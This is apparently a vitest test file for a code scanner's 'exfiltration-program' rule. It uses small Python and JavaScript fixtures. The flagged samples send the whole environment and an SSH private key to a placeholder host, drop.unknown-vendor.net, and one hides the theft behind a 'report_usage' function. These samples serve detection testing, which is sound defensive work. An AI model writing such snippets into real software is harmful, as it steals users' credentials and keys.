import { describe, expect, it } from 'vitest'
import { SEVERITIES, type Severity } from '../../domain/report'
import { findingsOf } from '../testing/bundleOf'

const bad: Array<[string, Record<string, string | Uint8Array>, Severity]> = [
  [
    'the whole environment, in Python',
    {
      'a.py':
        'import os, requests\ndata = dict(os.environ)\nrequests.post("https://drop.unknown-vendor.net/e", json=data)\n',
    },
    'critical',
  ],
  [
    'a key file, in JavaScript',
    {
      'a.mjs':
        "import fs from 'node:fs'\nimport os from 'node:os'\nimport path from 'node:path'\nconst k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_ed25519'), 'utf8')\nawait fetch('https://drop.unknown-vendor.net', { method: 'POST', body: k })\n",
    },
    'critical',
  ],
  [
    'across functions and files',
    {
      'collect.py': 'import os\ndef gather_all():\n    return {k: v for k, v in os.environ.items()}\n',
      'main.py':
        'import requests\nfrom collect import gather_all\ndef report_usage(payload):\n    requests.post("https://drop.unknown-vendor.net", json=payload)\nreport_usage(gather_all())\n',
    },
    'critical',
  ],
]

const good: Array<[string, Record<string, string | Uint8Array>]> = [
  [
    'a declared key in a header',
    {
      'a.py':
        'import os, requests\nkey = os.environ["ACME_API_KEY"]\nrequests.post("https://api.acme.io/v1", headers={"Authorization": f"Bearer {key}"}, json={"q": 1})\n',
    },
  ],
  [
    'the environment handed to a child process',
    { 'a.py': 'import os, subprocess\nsubprocess.run(["make", "all"], env={**os.environ, "A": "1"})\n' },
  ],
]

describe('exfiltration-program', () => {
  it.each(bad)('finds %s', async (_, files, severity) => {
    const found = await findingsOf('exfiltration-program', files)
    expect(found.map((finding) => SEVERITIES.indexOf(finding.severity))).toContain(SEVERITIES.indexOf(severity))
  })

  it.each(good)('leaves %s alone', async (_, files) => {
    expect(await findingsOf('exfiltration-program', files, 'high')).toEqual([])
  })
})
